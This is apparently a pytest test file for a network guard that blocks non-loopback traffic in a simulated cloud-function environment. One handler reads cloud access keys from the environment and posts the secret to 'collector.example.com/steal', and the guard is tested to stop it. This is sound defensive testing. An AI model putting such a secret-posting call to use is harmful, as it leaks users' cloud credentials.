"""The network guard (issue "Network guard"): non-loopback traffic fails fast, loopback works.

Every test that tries to reach a public host first installs a tripwire *beneath* the
guard (tests/cloud_guard_helpers.py): an attempt that got past the guard would be
recorded and refused there, so no test can send real traffic even if the guard
regresses; each such test asserts the tripwire saw nothing.
"""

from __future__ import annotations

import socket
import threading

import pytest
import requests
from cloud_guard_helpers import Tripwire, TripwireHit, local_http_server

from pytest_fctrigger.cloud.guard import NetworkGuard, is_loopback_host
from pytest_fctrigger.errors import NetworkBlockedError

PUBLIC_IP = "93.184.216.34"  # a public address; never contacted (guard + tripwire)


@pytest.fixture
def tripwire(monkeypatch):
    return Tripwire().install(monkeypatch)


def _assert_guard_message(exc: BaseException, host: str) -> None:
    text = str(exc)
    assert f"blocked a network connection to {host}" in text
    assert "--fc-allow-network" in text


# --------------------------------------------------------------------------- handlers
def handler_fetching_a_page(event, context):
    return requests.get("https://example.com", timeout=5).text


def handler_opening_a_socket(event, context):
    with socket.create_connection((PUBLIC_IP, 443), timeout=5):
        return "connected"


def handler_raw_socket(event, context):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.connect((PUBLIC_IP, 80))
    finally:
        sock.close()


def test_requests_get_to_a_public_host_fails_fast_without_dns(tripwire):
    with NetworkGuard():
        with pytest.raises(requests.exceptions.ConnectionError) as info:
            handler_fetching_a_page(b"{}", None)
    # urllib3 wraps the OSError our guard raises; the guard's message is kept verbatim
    _assert_guard_message(info.value, "example.com")
    assert tripwire.hits == []


def test_socket_to_a_public_address_is_refused(tripwire):
    with NetworkGuard():
        with pytest.raises(NetworkBlockedError) as info:
            handler_opening_a_socket(b"{}", None)
        assert info.value.host == PUBLIC_IP and info.value.port == 443
        with pytest.raises(NetworkBlockedError, match=PUBLIC_IP):
            handler_raw_socket(b"{}", None)
    _assert_guard_message(info.value, PUBLIC_IP)
    assert tripwire.hits == []


@pytest.mark.parametrize(
    "handler,host",
    [(handler_fetching_a_page, "example.com"), (handler_opening_a_socket, PUBLIC_IP), (handler_raw_socket, PUBLIC_IP)],
)
def test_handlers_run_by_fc_invoke_fail_fast_with_the_guard_message(tripwire, fc_invoke, handler, host):
    result = fc_invoke(handler, b"{}", catch=True)
    assert result.error["errorType"] == "NetworkBlockedError"
    assert f"blocked a network connection to {host}" in result.error["errorMessage"]
    assert "--fc-allow-network" in result.error["errorMessage"]
    assert tripwire.hits == []


@pytest.mark.parametrize(
    "lookup",
    [
        lambda: socket.getaddrinfo("example.com", 443),
        lambda: socket.gethostbyname("example.com"),
        lambda: socket.gethostbyname_ex("example.com"),
        lambda: socket.gethostbyaddr(PUBLIC_IP),
        lambda: socket.getnameinfo((PUBLIC_IP, 53), 0),
    ],
    ids=["getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getnameinfo"],
)
def test_dns_lookups_for_public_names_never_leave_the_process(tripwire, lookup):
    with NetworkGuard():
        with pytest.raises(NetworkBlockedError):
            lookup()
    assert tripwire.hits == []


def test_udp_datagrams_to_public_addresses_are_refused(tripwire):
    with NetworkGuard():
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            with pytest.raises(NetworkBlockedError, match="8.8.8.8"):
                sock.sendto(b"\x00" * 12, ("8.8.8.8", 53))  # the shape of a DNS query
            with pytest.raises(NetworkBlockedError):
                sock.connect_ex((PUBLIC_IP, 53))
            if hasattr(sock, "sendmsg"):
                with pytest.raises(NetworkBlockedError, match="8.8.4.4"):
                    sock.sendmsg([b"\x00" * 12], [], 0, ("8.8.4.4", 53))
        finally:
            sock.close()
    assert tripwire.hits == []


# every way a test reaches for the network, as (name, call); each must stop beneath a broken guard
ATTEMPTS = [
    ("requests.get", lambda: handler_fetching_a_page(b"{}", None)),
    ("create_connection", lambda: handler_opening_a_socket(b"{}", None)),
    ("socket.connect", lambda: handler_raw_socket(b"{}", None)),
    ("getaddrinfo", lambda: socket.getaddrinfo("example.com", 443)),
    ("gethostbyname", lambda: socket.gethostbyname("example.com")),
    ("gethostbyname_ex", lambda: socket.gethostbyname_ex("example.com")),
    ("gethostbyaddr", lambda: socket.gethostbyaddr(PUBLIC_IP)),
    ("getnameinfo", lambda: socket.getnameinfo((PUBLIC_IP, 53), 0)),
    ("sendto", lambda: _udp(lambda s: s.sendto(b"\x00" * 12, ("8.8.8.8", 53)))),
    ("sendmsg", lambda: _udp(lambda s: s.sendmsg([b"\x00" * 12], [], 0, ("8.8.8.8", 53)))),
    ("connect_ex", lambda: _udp(lambda s: s.connect_ex((PUBLIC_IP, 53)))),
]


def _udp(send):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        return send(sock)
    finally:
        sock.close()


@pytest.mark.parametrize("name,attempt", ATTEMPTS, ids=[name for name, _ in ATTEMPTS])
def test_the_tripwire_stops_what_a_broken_guard_lets_through(monkeypatch, tripwire, name, attempt):
    """The safety net itself: with the guard's checks broken (everything counts as
    loopback), every attempt above is still refused beneath it and recorded."""
    from pytest_fctrigger.cloud import guard

    if name == "sendmsg" and not hasattr(socket.socket, "sendmsg"):
        pytest.skip("no sendmsg on this platform")
    monkeypatch.setattr(guard, "is_loopback_host", lambda host: True)
    monkeypatch.setattr(guard._STATE, "allowed", lambda *args, **kwargs: True)
    with NetworkGuard():
        with pytest.raises(OSError, match="tripwire"):  # requests wraps it in its ConnectionError
            attempt()
    assert len(tripwire.hits) == 1


def test_refusal_is_immediate_even_from_another_thread(tripwire):
    errors = []

    def worker():
        try:
            socket.create_connection((PUBLIC_IP, 80), timeout=30)
        except BaseException as exc:
            errors.append(exc)

    with NetworkGuard():
        thread = threading.Thread(target=worker)
        thread.start()
        thread.join(5)
    assert not thread.is_alive()
    assert len(errors) == 1 and isinstance(errors[0], NetworkBlockedError)
    assert tripwire.hits == []


# --------------------------------------------------------------------------- allowed traffic
def test_loopback_tcp_and_http_still_work(tripwire):
    with local_http_server() as url, NetworkGuard():
        assert requests.get(url + "/a", timeout=5).text == "local:/a"
        port = int(url.rsplit(":", 1)[1])
        assert requests.get(f"http://localhost:{port}/b", timeout=5).text == "local:/b"
        socket.create_connection(("127.0.0.1", port), timeout=5).close()
    assert tripwire.hits == []


@pytest.mark.skipif(not hasattr(socket, "AF_UNIX"), reason="no Unix sockets on this platform")
def test_unix_sockets_are_allowed(tmp_path):
    path = str(tmp_path / "s.sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(path)
    server.listen(1)
    try:
        with NetworkGuard():
            client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            client.connect(path)
            conn, _ = server.accept()
            client.sendall(b"ping")
            assert conn.recv(4) == b"ping"
            conn.close()
            client.close()
    finally:
        server.close()


@pytest.mark.parametrize(
    "host,expected",
    [
        ("127.0.0.1", True),
        ("127.8.9.10", True),
        ("::1", True),
        ("[::1]", True),
        ("localhost", True),
        ("LOCALHOST.", True),
        ("api.localhost", True),
        ("0.0.0.0", True),
        ("::ffff:127.0.0.1", True),
        (None, True),
        ("", True),
        (b"localhost", True),
        ("example.com", False),
        ("10.0.0.1", False),
        ("192.168.1.1", False),
        (PUBLIC_IP, False),
        ("oss-cn-hangzhou.aliyuncs.com", False),
        ("localhost.example.com", False),
    ],
)
def test_what_counts_as_loopback(host, expected):
    assert is_loopback_host(host) is expected


def test_allowed_hosts_and_their_addresses_pass_the_guard(monkeypatch):
    """``allow=`` (used for a real Redis by URL) lets a name through, then its resolved addresses."""
    seen = []

    def fake_resolver(host, port, *args, **kwargs):  # beneath the guard; never real DNS
        seen.append(host)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("10.1.2.3", port))]

    monkeypatch.setattr(socket, "getaddrinfo", fake_resolver)
    tripwire = Tripwire()

    def refuse_connect(sock, address):
        tripwire.hits.append(address)
        raise TripwireHit("stopped beneath the guard")

    monkeypatch.setattr(socket.socket, "connect", refuse_connect)
    with NetworkGuard(allow=["redis.ci"]):
        assert socket.getaddrinfo("redis.ci", 6379)[0][4] == ("10.1.2.3", 6379)
        sock = socket.socket()
        try:
            # the guard lets the learned address through: the refusal comes from beneath it
            with pytest.raises(TripwireHit):
                sock.connect(("10.1.2.3", 6379))
            with pytest.raises(NetworkBlockedError):
                sock.connect(("10.9.9.9", 6379))
        finally:
            sock.close()
        with pytest.raises(NetworkBlockedError):
            socket.getaddrinfo("other.ci", 6379)
    assert seen == ["redis.ci"]
    assert tripwire.hits == [("10.1.2.3", 6379)]


# --------------------------------------------------------------------------- nesting / restore
_MODULE_NAMES = (
    "getaddrinfo",
    "gethostbyname",
    "gethostbyname_ex",
    "gethostbyaddr",
    "getnameinfo",
    "create_connection",
)
_METHOD_NAMES = ("connect", "connect_ex", "sendto", "sendmsg")


def _snapshot():
    return (
        {n: getattr(socket, n) for n in _MODULE_NAMES},
        {n: socket.socket.__dict__.get(n, "<inherited>") for n in _METHOD_NAMES},
    )


def test_guard_restores_exactly_what_was_there(monkeypatch):
    for name in _METHOD_NAMES:  # take the session tripwire's overrides away for this test
        monkeypatch.delattr(socket.socket, name, raising=False)
    before = _snapshot()
    assert before[1]["connect"] == "<inherited>"  # plain CPython: methods come from _socket.socket
    with NetworkGuard():
        assert socket.getaddrinfo is not before[0]["getaddrinfo"]
        assert "connect" in socket.socket.__dict__
    after = _snapshot()
    assert after[0] == before[0]
    assert after[1] == before[1]


def test_guards_nest_and_may_exit_in_any_order(tripwire):
    before = _snapshot()
    outer, inner = NetworkGuard(), NetworkGuard()
    outer.__enter__()
    inner.__enter__()
    patched = socket.getaddrinfo
    outer.__exit__(None, None, None)  # out of order: the inner guard still protects
    assert socket.getaddrinfo is patched and NetworkGuard.engaged()
    with pytest.raises(NetworkBlockedError):
        socket.getaddrinfo("example.com", 80)
    inner.__exit__(None, None, None)
    assert not NetworkGuard.engaged()
    assert _snapshot() == before  # the tripwire beneath is back, untouched
    assert tripwire.hits == []


def test_a_guard_instance_cannot_be_entered_twice():
    guard = NetworkGuard()
    with guard:
        with pytest.raises(RuntimeError, match="already active"):
            guard.__enter__()
    assert not guard.active


def test_the_guard_is_restored_when_the_body_raises():
    before = _snapshot()
    with pytest.raises(ZeroDivisionError):
        with NetworkGuard():
            1 / 0
    assert _snapshot() == before


# --------------------------------------------------------------------------- real credentials
REAL = {
    "ALIBABA_CLOUD_ACCESS_KEY_ID": "LTAI5tREALKEYID0000000000",
    "ALIBABA_CLOUD_ACCESS_KEY_SECRET": "REALsecretREALsecretREALsecret",
    "ALIBABA_CLOUD_SECURITY_TOKEN": "REALtoken",
    "OSS_ACCESS_KEY_ID": "LTAI5tREALOSSKEY000000000",
    "OSS_ACCESS_KEY_SECRET": "REALossSecret",
}


def credential_reading_handler(event, context):
    """Reads credentials the FC 3.12 way (environment), writes with them, records what
    oss2's environment provider would see, then tries to post the secret outside."""
    import os

    import oss2

    ak = os.environ["ALIBABA_CLOUD_ACCESS_KEY_ID"]
    sk = os.environ["ALIBABA_CLOUD_ACCESS_KEY_SECRET"]
    token = os.environ["ALIBABA_CLOUD_SECURITY_TOKEN"]
    endpoint = "oss-cn-hangzhou-internal.aliyuncs.com"
    bucket = oss2.Bucket(oss2.StsAuth(ak, sk, token), endpoint, "creds-bucket")
    bucket.put_object("seen.txt", f"{ak}|{sk}|{token}".encode())
    # oss2's own environment provider reads OSS_ACCESS_KEY_ID/SECRET
    bucket.put_object("oss-env.txt", repr(os.environ.get("OSS_ACCESS_KEY_ID")).encode())
    try:
        requests.post("https://collector.example.com/steal", data=sk, timeout=5)
    except OSError as exc:  # NetworkBlockedError is a ConnectionError
        return str(exc)
    return "sent"


def test_real_credentials_in_the_environment_reach_neither_the_handler_nor_the_network(
    tripwire, monkeypatch, fc_cloud, fc_invoke
):
    """The invoker hides real ``ALIBABA_CLOUD_*`` values and sets the test's fake ones;
    the guard side: what the handler sends goes to the fake OSS, signed with the fake
    keys, and its attempt to send a secret out fails fast without leaving the process."""
    for name, value in REAL.items():
        monkeypatch.setenv(name, value)
    fc_cloud.oss.bucket("creds-bucket", region="cn-hangzhou")
    result = fc_invoke(credential_reading_handler, b"{}")

    message = result.payload.decode()
    assert "blocked a network connection to collector.example.com:443" in message
    assert "--fc-allow-network" in message
    assert tripwire.hits == []

    seen = fc_cloud.oss.bucket("creds-bucket").get("seen.txt").decode()
    for value in REAL.values():
        assert value not in seen
    assert fc_cloud.oss.bucket("creds-bucket").get("oss-env.txt") == b"None"
    ak, sk, _token = seen.split("|")
    assert ak.startswith("STS.FCTEST") and sk.startswith("FCTESTSECRET")
    keys = [w.attributes["access_key_id"] for w in result.writes]
    assert len(keys) == 2 and all(k.startswith("STS.FCTEST") for k in keys)
    assert not any(k in REAL.values() for k in keys)

    import os

    assert {name: os.environ[name] for name in REAL} == REAL  # restored after the call


# --------------------------------------------------------------------------- escapes (issue "FC instances")
def _netns_available() -> bool:
    import shutil
    import subprocess

    if not (shutil.which("unshare") and shutil.which("ip") and shutil.which("curl")):
        return False
    return subprocess.run(["unshare", "-rn", "true"], capture_output=True, check=False).returncode == 0


@pytest.mark.skipif(not _netns_available(), reason="needs unprivileged network namespaces (unshare -rn), ip, curl")
def test_escapes_beneath_the_python_patches_are_refused_in_a_network_namespace():
    """Raw ``_socket``, a ``connect`` captured before the plugin, ctypes, curl, a Python
    child and a ``spawn`` worker: each once reached the stand-in for the outside."""
    import json
    import os
    import subprocess
    import sys

    script = os.path.join(os.path.dirname(__file__), "netns_escapes.py")
    env = dict(os.environ, PYTHONPATH=os.path.dirname(__file__))
    for name in ("http_proxy", "https_proxy", "all_proxy", "no_proxy"):  # the developer's own: not in the way
        env.pop(name, None)
        env.pop(name.upper(), None)
    shell = f"ip link set lo up && ip addr add 10.99.0.1/32 dev lo && exec {sys.executable} {script}"
    run = subprocess.run(["unshare", "-rn", "sh", "-c", shell], capture_output=True, text=True, env=env, timeout=120)
    assert run.returncode == 0, run.stderr[-2000:]
    results = json.loads(run.stdout.strip().splitlines()[-1])
    assert results == {
        "_socket": "NetworkBlockedError",
        "captured": "NetworkBlockedError",
        "ctypes": "NetworkBlockedError",
        "curl": "exit 7",  # couldn't connect: the refusing proxy
        "python_child": "NetworkBlockedError",
        "spawn_exitcode": 1,
        "accepted": 0,
    }, run.stderr[-2000:]


def test_localhost_subdomains_are_answered_without_dns(monkeypatch):
    seen = []

    def resolver(host, port, *args, **kwargs):  # beneath the guard: what would go to DNS
        seen.append(host)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port))]

    monkeypatch.setattr(socket, "getaddrinfo", resolver)
    with NetworkGuard():
        assert socket.getaddrinfo("api.localhost", 80)[0][4] == ("127.0.0.1", 80)
    assert seen == ["127.0.0.1"]


def test_an_allowed_redis_opens_exactly_its_port(monkeypatch):
    def resolver(host, port, *args, **kwargs):
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("10.1.2.3", port))]

    monkeypatch.setattr(socket, "getaddrinfo", resolver)
    tripwire = Tripwire()

    def refuse_connect(sock, address):
        tripwire.hits.append(address)
        raise TripwireHit("stopped beneath the guard")

    monkeypatch.setattr(socket.socket, "connect", refuse_connect)
    guard = NetworkGuard()
    guard.allow_host("redis.ci", 6379)  # what fc_cloud does for --fc-redis-url redis://redis.ci:6379
    with guard, socket.socket() as sock:
        socket.getaddrinfo("redis.ci", 6379)
        with pytest.raises(TripwireHit):
            sock.connect(("10.1.2.3", 6379))
        for address in (("10.1.2.3", 22), ("redis.ci", 6380)):
            with pytest.raises(NetworkBlockedError):
                sock.connect(address)
    assert tripwire.hits == [("10.1.2.3", 6379)]


def test_the_audit_hook_checks_only_while_a_guard_is_active():
    import _socket

    from pytest_fctrigger.cloud import guard as guard_module

    with NetworkGuard():
        pass
    assert guard_module._AUDIT_HOOKED  # installed for good (audit hooks cannot be removed)
    with local_http_server() as url:  # no guard now: a raw loopback connect is not checked at all
        host, port = url[len("http://") :].split(":")
        sock = _socket.socket()
        try:
            sock.connect((host, int(port)))
        finally:
            sock.close()
